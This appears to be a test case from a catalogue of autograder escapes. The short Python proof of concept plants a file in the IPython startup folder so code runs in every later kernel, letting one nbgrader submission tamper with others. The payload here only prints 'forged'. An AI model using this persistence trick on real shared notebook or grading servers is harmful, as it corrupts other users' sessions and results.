"""Leave a program that starts with every later kernel.

class: write into another submission
gain: write
nbgrader: works
"""

from pathlib import Path

folder = Path("@HOME@/.ipython/profile_default/startup")
folder.mkdir(parents=True, exist_ok=True)
(folder / "00.py").write_text("print('forged')")
